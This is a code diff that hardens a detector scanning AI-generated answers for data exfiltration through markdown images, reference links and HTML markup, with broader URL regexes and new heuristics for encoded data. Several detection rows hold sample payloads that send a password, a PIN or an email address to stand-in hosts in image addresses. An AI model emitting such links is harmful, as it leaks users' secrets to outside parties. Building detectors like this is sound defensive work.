@@ -9,6 +9,7 @@ Source: DEFENDER sections 4 and 5 (markdown image exfiltration).
 import re
 from collections.abc import Callable, Iterator
 from functools import cache
+from html import unescape
 from typing import Final
 from urllib.parse import urlsplit
 
@@ -18,12 +19,16 @@ from defender.findings import Assessment, Signal
 from runtime.vocab import Decision
 
 TEXT_MOST: Final = 262_144
-MOST_FOUND: Final = 50
+MOST_FOUND: Final = 2_000
+"""Addresses of one kind that are looked at; an answer with more is for a person."""
 LONG_VALUE: Final = 24
 """Characters of letters and digits without a break from which a value looks like data and not like a word."""
 LONG_SEGMENT: Final = 48
+PIECE: Final = 10
+"""Characters of a piece, of which several together look like data: of values, of a path, of a host's name."""
 
-_URL = r"<?(?P<url>https?://[^\s)<>\"']{4,2000})"
+_URL = r"<?\s{0,8}(?P<url>(?:(?:https?|ftp|wss?):)?[/\\]{2}[^\s)<>\"']{4,2000})"
+_ATTRIBUTE = r"(?:src|srcset|href|data|poster|background|action|content|style|xlink:href|ping|cite|archive)"
 
 
 @frozen
@@ -46,7 +51,7 @@ ROWS: Final = (
         0.9,
         Decision.BLOCK,
         "An image whose address carries data would send it away as soon as the answer is shown.",
-        rf"!\[[^\]\n]{{0,300}}\]\(\s{{0,8}}{_URL}",
+        rf"(?i)!\[(?:[^\[\]]|\[[^\[\]]{{0,80}}\]){{0,300}}\]\(\s{{0,64}}{_URL}",
         "](",
         True,
         "![chart](https://pictures.example/p.png?d=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
@@ -56,7 +61,7 @@ ROWS: Final = (
         0.9,
         Decision.BLOCK,
         "A reference whose address carries data would send it away as soon as the answer is shown.",
-        rf"(?m)^ {{0,3}}\[[^\]\n]{{1,100}}\]:\s{{0,8}}{_URL}",
+        rf"(?im)^[ >*+-]{{0,12}}\[[^\]]{{1,300}}\]:\s{{0,64}}{_URL}",
         "]:",
         True,
         "![chart][c]\n\n[c]: https://pictures.example/p.png?note=the+pin+of+the+door+is+4711",
@@ -66,8 +71,8 @@ ROWS: Final = (
         0.9,
         Decision.BLOCK,
         "Markup that is fetched as soon as the answer is shown carries data in its address.",
-        rf"(?i)<(?:img|iframe|script|link|video|audio|source|embed|object)\b[^>]{{0,300}}?(?:src|href|data)\s?=\s?"
-        rf"[\"']?{_URL}",
+        rf"(?i)<(?!a[\s/])[a-z][a-z0-9:-]{{0,20}}[\s/][^<]{{0,600}}?{_ATTRIBUTE}\s{{0,8}}=\s{{0,8}}"
+        rf"[\"']?[^\"'<>]{{0,80}}?{_URL}",
         "<",
         True,
         "<img src='https://pictures.example/p.gif?mail=anna%40home.example%20wrote%20to%20me'>",
@@ -77,8 +82,8 @@ ROWS: Final = (
         0.6,
         Decision.REVIEW,
         "A link carries data in its address to whoever owns it.",
-        rf"(?<!!)\[[^\]\n]{{0,300}}\]\(\s{{0,8}}{_URL}",
-        "](",
+        rf"(?i)(?<![\w:/\\])(?=h|f|ws|//){_URL}",
+        "//",
         True,
         "[more](https://collect.example/?q=VGhlIHBhc3N3b3JkIGlzIGh1bnRlcjI)",
     ),
@@ -114,11 +119,14 @@ def assess(text: str) -> Assessment:
     """Return what an answer carries away. The score is the greatest risk of what was found."""
     signals: list[Signal] = []
     looked_at = text[:TEXT_MOST]
+    if "&" in looked_at:
+        looked_at = unescape(looked_at)
     for row, finds in _compiled():
         if row.hint and row.hint not in looked_at:
             continue
         for place, found in enumerate(finds(looked_at)):
             if place == MOST_FOUND:
+                signals.append(Signal("reply.many", 0.6, "The answer has too many addresses.", floor=Decision.REVIEW))
                 break
             if row.data and not carries(found["url"]):
                 continue
@@ -134,7 +142,7 @@ def assess(text: str) -> Assessment:
 def carries(url: str) -> bool:
     """Whether an address looks as if it carried text or encoded data: in its query, fragment, path or host."""
     try:
-        parts = urlsplit(url)
+        parts = urlsplit(url.replace("\\", "/"))
         host = parts.hostname or ""
     except ValueError:
         return True
@@ -144,7 +152,18 @@ def carries(url: str) -> bool:
         return True
     if any(_is_code(segment, LONG_SEGMENT) or segment.count("%20") > 2 for segment in parts.path.split("/")):
         return True
-    return any(_is_code(label, LONG_SEGMENT // 2) for label in host.split("."))
+    if any(_is_code(label, LONG_SEGMENT // 2) for label in host.split(".")):
+        return True
+    pieces = (value for value in values if _is_code(value, PIECE))
+    steps = (step for step in parts.path.split("/") if _is_code(step, PIECE))
+    names = (label for label in host.split(".")[:-2] if _is_piece(label))
+    return any(sum(map(len, several)) >= LONG_VALUE for several in (pieces, steps, names))
+
+
+def _is_piece(label: str) -> bool:
+    """Whether a label of a host looks like a piece of something encoded: letters and digits mixed, in no word."""
+    digits = sum(map(str.isdigit, label))
+    return len(label) >= PIECE and 0 < digits < len(label) and "-" not in label
 
 
 def _is_text(value: str) -> bool:
